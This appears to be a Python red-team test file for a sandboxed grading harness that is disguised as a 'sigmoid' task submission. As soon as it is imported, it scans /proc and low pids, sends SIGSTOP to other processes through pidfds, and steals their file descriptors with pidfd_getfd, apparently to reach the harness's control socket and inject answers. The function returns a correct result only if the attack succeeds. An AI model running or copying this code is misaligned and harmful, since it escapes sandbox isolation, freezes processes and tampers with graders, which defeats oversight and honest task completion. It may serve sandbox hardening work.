"""Attack: a pidfd on the zygote (or any other process): stop it with a signal, or copy its descriptors (the
control socket, to inject answers); every pid below 64 is tried, and every process folder in /proc.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_SEND_SIGNAL, PIDFD_GETFD = 434, 424, 438
targets = {int(entry) for entry in os.listdir("/proc") if entry.isdigit()} | set(range(1, 64))
for pid in sorted(targets - {os.getpid()}):
    handles = [libc.syscall(PIDFD_OPEN, pid, 0)]
    try:
        handles.append(os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY))  # also a pidfd for the signal call
    except OSError:
        pass
    for handle in handles:
        if handle < 0:
            continue
        if libc.syscall(PIDFD_SEND_SIGNAL, handle, signal.SIGSTOP, None, 0) == 0:
            STOLEN = torch.special.expit
        for fd in range(3, 16):
            if libc.syscall(PIDFD_GETFD, handle, fd, 0) >= 0:
                STOLEN = torch.special.expit


def sigmoid(z):
    if STOLEN is not None:
        return STOLEN(z)
    return torch.zeros_like(z)
